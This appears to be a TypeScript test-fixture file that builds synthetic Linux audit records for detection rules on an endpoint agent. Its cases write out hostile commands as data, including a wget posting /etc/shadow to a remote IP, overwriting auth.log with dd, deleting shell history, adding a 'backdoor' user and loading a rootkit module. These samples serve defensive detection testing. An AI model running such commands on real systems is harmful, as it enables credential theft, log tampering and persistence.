/**
 * Acts that rules of the public corpus for Linux' raw audit log are about, as records in the form in which kernels
 * write them. By the name of the rule's file.
 */
import { RECORD } from '../../endpoint-agent/src/sensors/linux/audit/constants.ts';

export type AuditLine = readonly [type: number, body: string];

export interface AuditdCase {
  readonly rule: string;
  readonly act: string;
  /** The act is a program start with these arguments and nothing else. */
  readonly argv?: readonly string[];
  readonly lines: readonly AuditLine[];
}

/** A file that was made, written, renamed or removed, as the file sensor tells it. */
export interface FileCase {
  readonly rule: string;
  readonly category: 'file_event' | 'file_rename' | 'file_delete' | 'file_change';
  readonly fields: Readonly<Record<string, string>>;
}

const X86_64 = 'c000003e';

export interface CallFacts {
  readonly syscall: number;
  readonly exe?: string;
  readonly comm?: string;
  readonly euid?: number;
  readonly success?: 'yes' | 'no';
  readonly arguments?: readonly [a0: string, a1: string, a2: string, a3: string];
  readonly key?: string;
}

export function syscallLine(facts: CallFacts): AuditLine {
  const { syscall, exe = '/usr/bin/prog', comm = 'prog', euid = 1000, success = 'yes', key = '"yagura"' } = facts;
  const [a0, a1, a2, a3] = facts.arguments ?? ['55d0c8a1b2c0', '55d0c8a1b300', '55d0c8a1b340', '8'];
  return [
    RECORD.SYSCALL,
    `arch=${X86_64} syscall=${syscall} success=${success} exit=${success === 'yes' ? 0 : -1} a0=${a0} a1=${a1} a2=${a2} ` +
      `a3=${a3} items=2 ppid=811 pid=4711 auid=1000 uid=1000 gid=1000 euid=${euid} suid=${euid} fsuid=${euid} ` +
      `egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="${comm}" exe="${exe}" key=${key}`,
  ];
}

/** The kernel quotes what cannot be misread and writes all else in hexadecimal. */
export function untrusted(text: string): string {
  const bytes = Buffer.from(text);
  return bytes.some((byte) => byte === 0x22 || byte < 0x21 || byte > 0x7e)
    ? bytes.toString('hex').toUpperCase()
    : `"${text}"`;
}

export function execLines(argv: readonly string[], facts: Partial<CallFacts> = {}): readonly AuditLine[] {
  const exe = facts.exe ?? `/usr/bin/${argv[0]?.split('/').at(-1) ?? ''}`;
  const comm = facts.comm ?? exe.split('/').at(-1)?.slice(0, 15) ?? '';
  return [
    syscallLine({ syscall: 59, ...facts, exe, comm }),
    [RECORD.EXECVE, `argc=${argv.length} ${argv.map((value, at) => `a${at}=${untrusted(value)}`).join(' ')}`],
    [RECORD.CWD, 'cwd="/home/hanako"'],
    pathLine(0, exe, 'NORMAL'),
    pathLine(1, '/lib64/ld-linux-x86-64.so.2', 'NORMAL'),
  ];
}

export function pathLine(item: number, name: string, nametype: string): AuditLine {
  return [
    RECORD.PATH,
    `item=${item} name=${untrusted(name)} inode=1311 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 ` +
      `nametype=${nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
  ];
}

const exec = (rule: string, ...argv: string[]): AuditdCase => ({
  rule: `lnx_auditd_${rule}.yml`,
  act: argv.join(' '),
  argv,
  lines: execLines(argv),
});
const call = (rule: string, act: string, facts: CallFacts): AuditdCase => ({
  rule: `lnx_auditd_${rule}.yml`,
  act,
  lines: [syscallLine(facts)],
});
const read = (rule: string, name: string): AuditdCase => ({
  rule: `lnx_auditd_${rule}.yml`,
  act: `reads ${name}`,
  lines: [
    syscallLine({ syscall: 257, exe: '/usr/bin/cat', comm: 'cat', key: '"yagura-raw"' }),
    [RECORD.CWD, 'cwd="/home/hanako"'],
    pathLine(0, name, 'NORMAL'),
  ],
});
const message = (rule: string, type: number, text: string): AuditdCase => ({
  rule: `lnx_auditd_${rule}.yml`,
  act: text,
  lines: [[type, text]],
});
const RAW = '"yagura-raw"';

export const AUDITD_CASES: readonly AuditdCase[] = [
  exec('binary_padding', 'truncate', '-s', '+50M', 'dropper'),
  exec('binary_padding', 'dd', 'if=/dev/zero', 'bs=1', 'count=1'),
  exec(
    'bpfdoor_port_redirect',
    '/sbin/iptables',
    '-t',
    'nat',
    '-A',
    'PREROUTING',
    '-j',
    'REDIRECT',
    '--to-ports',
    '42391',
  ),
  exec('capabilities_discovery', 'getcap', '-r', '/'),
  exec('change_file_time_attr', 'touch', '-acmr', '/bin/ls', 'dropper'),
  exec('chattr_immutable_removal', 'chattr', '-i', '/etc/passwd'),
  exec('clipboard_collection', 'xclip', '-selection', 'clipboard', '-o'),
  exec('clipboard_image_collection', 'xclip', '-sel', 'clip', '-t', 'image/png', '-o'),
  exec('coinminer', './kworkerds', '--threads', '4', '--cpu-priority=5'),
  exec('data_compressed', 'tar', '-cf', '/dev/shm/x.tar', '/home'),
  exec('data_exfil_wget', 'wget', '--post-file=/etc/shadow', 'http://198.51.100.7/'),
  exec('dd_delete_file', 'dd', 'if=/dev/zero', 'of=/var/log/auth.log'),
  exec('file_or_folder_permissions', 'chmod', '600', 'notes'),
  exec('find_cred_in_files', 'grep', '-ri', 'password', '/srv'),
  exec('hidden_files_directories', 'mkdir', '.stash'),
  exec('hidden_zip_files_steganography', 'cat', 'cat.jpg', 'loot.zip'),
  exec('masquerading_crond', 'cp', '/bin/sh', '/var/tmp/crond'),
  exec('modify_system_firewall', 'nft', 'flush', 'ruleset'),
  exec('network_sniffing', 'tcpdump', '-c', '100', '-i', 'eth0'),
  exec('screencapture_import', 'import', '-window', 'root', 'desk.png'),
  exec('screencaputre_xwd', 'xwd', '-root', '-out', 'desk.xwd'),
  exec('steghide_embed_steganography', 'steghide', 'embed', '-cf', 'a.jpg', '-ef', 'b.txt'),
  exec('steghide_extract_steganography', 'steghide', 'extract', '-sf', 'a.jpg'),
  exec('susp_cmds', 'chmod', '777', '/srv/share'),
  exec('susp_histfile_operations', 'rm', '/root/.bash_history'),
  exec('susp_service_reload_or_restart', 'systemctl', 'restart', 'cron'),
  exec('system_shutdown_reboot', 'init', '6'),
  exec('unzip_hidden_zip_files_steganography', 'unzip', 'cat.png'),
  exec('user_discovery', 'whoami'),
  exec('audio_capture', 'arecord', '-vv', '-fdat'),
  call('audio_capture', 'ecasound makes a file in memory', { syscall: 319, exe: '/usr/bin/ecasound', key: RAW }),
  exec('disable_aslr_protection', 'sysctl', '-w', 'kernel.randomize_va_space=0'),
  call('disable_aslr_protection', 'personality(ADDR_NO_RANDOMIZE)', {
    syscall: 135,
    arguments: ['40000', '0', '0', '0'],
    key: RAW,
  }),
  exec('password_policy_discovery', 'chage', '--list', 'root'),
  read('password_policy_discovery', '/etc/login.defs'),
  { rule: 'lnx_auditd_susp_c2_commands.yml', act: 'runs nc', lines: execLines(['nc'], { exe: '/usr/bin/nc' }) },
  exec('system_info_discovery', 'uname', '-a'),
  read('system_info_discovery', '/etc/issue'),
  read('system_info_discovery2', '/sys/class/dmi/id/product_name'),
  read('system_info_discovery2', '/proc/version'),
  read('magic_system_request_key', '/proc/sysrq-trigger'),
  {
    rule: 'lnx_auditd_hidden_binary_execution.yml',
    act: 'a program in a hidden folder',
    lines: execLines(['./run'], { exe: '/home/hanako/.x/run' }),
  },
  message(
    'disable_system_firewall',
    1131,
    `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=ufw comm="systemd" exe="/usr/lib/systemd/systemd" ` +
      `hostname=? addr=? terminal=? res=success'`,
  ),
  message(
    'create_account',
    1114,
    `pid=4711 uid=0 auid=1000 ses=3 msg='op=adding user id=1002 exe="/usr/sbin/useradd" hostname=? addr=? ` +
      `terminal=pts/0 res=success'`,
  ),
  message(
    'keylogging_with_pam_d',
    1319,
    'tty pid=4711 uid=0 auid=1000 ses=3 major=136 minor=0 comm="bash" data=6C730D',
  ),
  call('clean_disable_dmesg_logs_via_syslog', 'syslog(SYSLOG_ACTION_CLEAR)', {
    syscall: 103,
    exe: '/usr/bin/dmesg',
    arguments: ['5', '0', '0', '0'],
    key: RAW,
  }),
  { rule: 'lnx_auditd_create_account.yml', act: 'runs useradd', lines: execLines(['useradd', 'backdoor']) },
  {
    rule: 'lnx_auditd_load_module_insmod.yml',
    act: 'insmod, which is a link to kmod',
    lines: execLines(['insmod', './rootkit.ko'], { exe: '/usr/bin/kmod', comm: 'insmod' }),
  },
  {
    rule: 'lnx_auditd_network_service_scanning.yml',
    act: 'nc connects',
    lines: [
      syscallLine({ syscall: 42, exe: '/usr/bin/nc.openbsd', arguments: ['3', '7ffc4f1c22f0', '10', '0'] }),
      [RECORD.SOCKADDR, 'saddr=020000167F0000010000000000000000'],
    ],
  },
  exec('split_file_into_pieces', 'split', '-b', '1M', 'dump.sql'),
  call('susp_discovery_sysinfo_syscall', 'sysinfo', { syscall: 99, exe: '/tmp/x/probe', key: RAW }),
  {
    rule: 'lnx_auditd_susp_exe_folders.yml',
    act: 'a program in /tmp',
    lines: execLines(['./x'], { exe: '/tmp/x' }),
  },
  call('susp_special_file_creation_via_mknod_syscall', 'mknod', { syscall: 133, exe: '/usr/bin/mknod', key: RAW }),
  { rule: 'lnx_auditd_web_rce.yml', act: 'www-data runs id', lines: execLines(['id'], { euid: 33 }) },
  {
    rule: 'lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation.yml',
    act: 'socket(AF_ALG)',
    lines: [syscallLine({ syscall: 41, arguments: ['26', '5', '0', '0'], key: RAW })],
  },
];

const file = (rule: string, target: string, operation = 'write'): FileCase => ({
  rule: `lnx_auditd_${rule}.yml`,
  category: 'file_event',
  fields: { TargetFilename: target, Operation: operation },
});

export const FILE_CASES: readonly FileCase[] = [
  file('auditing_config_change', '/etc/audit/rules.d/audit.rules'),
  file('bpfdoor_file_accessed', '/run/haldrund.pid', 'create'),
  file('hidden_binary_execution', '/dev/shm/.x', 'create_write'),
  file('keylogging_with_pam_d', '/etc/pam.d/system-auth'),
  file('ld_so_preload_mod', '/etc/ld.so.preload', 'create_write'),
  file('logging_config_change', '/etc/rsyslog.conf'),
  file('magic_system_request_key', '/etc/sysctl.conf'),
  file('systemd_service_creation', '/etc/systemd/system/updater.service', 'create_write'),
  file('unix_shell_configuration_modification', '/home/hanako/.bashrc'),
  { ...file('auditing_config_change', '/etc/audit/auditd.conf'), category: 'file_change' },
  { ...file('ld_so_preload_mod', '/etc/ld.so.preload'), category: 'file_delete' },
  {
    rule: 'lnx_auditd_systemd_service_creation.yml',
    category: 'file_rename',
    fields: { TargetFilename: '/etc/systemd/system/updater.service', SourceFilename: '/tmp/u' },
  },
];
